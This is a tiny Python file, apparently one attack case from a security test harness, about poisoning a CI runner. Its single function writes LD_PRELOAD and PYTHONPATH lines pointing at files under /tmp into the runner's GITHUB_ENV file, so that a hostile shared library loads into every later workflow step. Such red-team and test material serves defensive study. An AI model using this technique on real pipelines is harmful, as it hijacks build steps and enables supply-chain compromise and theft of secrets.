"""Preload a library into every later step, by GITHUB_ENV."""

from hostile import append


def attempt(targets, secret):
    append(f"{targets['runner']}/env", "LD_PRELOAD=/tmp/hostile.so\nPYTHONPATH=/tmp/hostile\n")
